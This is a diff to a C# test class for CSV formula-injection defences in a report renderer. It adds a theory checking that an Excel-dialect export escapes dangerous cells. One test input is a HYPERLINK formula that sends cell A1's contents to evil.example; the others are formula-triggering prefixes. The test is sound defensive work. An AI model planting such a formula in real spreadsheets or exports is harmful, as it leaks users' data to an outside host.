@@ -76,8 +76,24 @@ public sealed class CsvInjectionTests
 
     private static async Task<List<string[]>> CsvAsync(ReportDocument report)
     {
-        var rendered = await ReportRenderer.RenderAsync(report, ReportFormats.Csv, null, Token);
+        var rendered = await ReportRenderer.RenderAsync(report, ReportFormats.Csv, null, Token, CsvDialects.Rfc4180);
         return Rfc4180.Parse(Encoding.UTF8.GetString(rendered.Content));
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka här\")")]
+    [InlineData("+46 70 123 45 67")]
+    [InlineData("@SUM(1+1)")]
+    [InlineData("\t=1+1")]
+    public async Task The_Excel_dialect_neutralises_the_same_text_and_keeps_a_negative_amount_a_number(string text)
+    {
+        var rendered = await ReportRenderer.RenderAsync(HostileReport.With(text), ReportFormats.Csv, null, Token);
+        Assert.Equal(Encoding.UTF8.GetPreamble(), rendered.Content[..3]);
+        var fields = Rfc4180.Parse(Encoding.UTF8.GetString(rendered.Content[3..]), ';').SelectMany(record => record).ToList();
+
+        Assert.All(fields, field => Assert.False(StartsAFormula(field) && !IsNumber(field.Replace(',', '.')), $"a spreadsheet runs {field} as a formula"));
+        Assert.Contains($"'{text}", fields);
+        Assert.Contains("-1500,00", fields);
     }
 
     /// <summary>OWASP's list of what makes a spreadsheet read a cell as a formula (or as the start of one).</summary>
